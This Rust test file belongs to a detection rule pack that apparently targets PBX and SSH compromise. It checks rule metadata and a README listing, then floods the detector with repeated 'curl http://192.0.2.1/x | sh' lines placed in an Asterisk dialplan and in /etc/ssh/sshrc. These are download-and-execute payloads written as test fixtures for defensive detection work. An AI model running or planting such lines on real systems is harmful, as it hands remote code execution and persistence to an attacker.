//! The pack as a whole: what each rule has to say of itself.

use super::rules;
use std::collections::BTreeSet;

#[test]
fn every_rule_names_source_technique_and_an_action_that_there_is() {
    let actions: BTreeSet<&str> = crate::playbook::ActionKind::ALL.iter().map(|kind| kind.as_str()).collect();
    let mut ids = BTreeSet::new();
    for rule in rules() {
        assert!(ids.insert(rule.id), "{} twice", rule.id);
        assert!(!rule.source.is_empty() && !rule.attack.is_empty() && !rule.title.ends_with('.'), "{}", rule.id);
        assert!(rule.confidence <= 100 && (rule.remedy.is_empty() || actions.contains(rule.remedy)), "{}", rule.id);
        assert!(rule.attack.iter().all(|technique| technique.starts_with('T')), "{}", rule.id);
    }
}

#[test]
fn every_rule_is_in_the_list_of_rules() {
    let list = include_str!("../../../../rules/README.md");
    let all = crate::detect::code_rules();
    let missing: Vec<&str> = all.iter().map(|rule| rule.id.as_str()).filter(|id| !list.contains(id)).collect();
    assert!(missing.is_empty(), "{missing:?}");
}

#[test]
fn a_flood_of_evil_lines_is_a_gap_and_not_a_flood_of_findings() {
    use super::super::testing::Scene;
    let plan = "exten => s,1,System(curl http://192.0.2.1/x | sh)\n".repeat(20_000);
    let hook = "curl http://192.0.2.1/x | sh\n".repeat(20_000);
    for (path, text) in [("/etc/asterisk/extensions_custom.conf", plan), ("/etc/ssh/sshrc", hook)] {
        let indicators = super::super::Indicators::builtin().unwrap().into();
        let outcome = Scene::new().file(path, text).judge(super::PbxDetector::new(indicators));
        assert!(outcome.value.len() <= 200, "{path}: {}", outcome.value.len());
        assert_eq!(outcome.gaps.len(), 1, "{path}");
    }
}
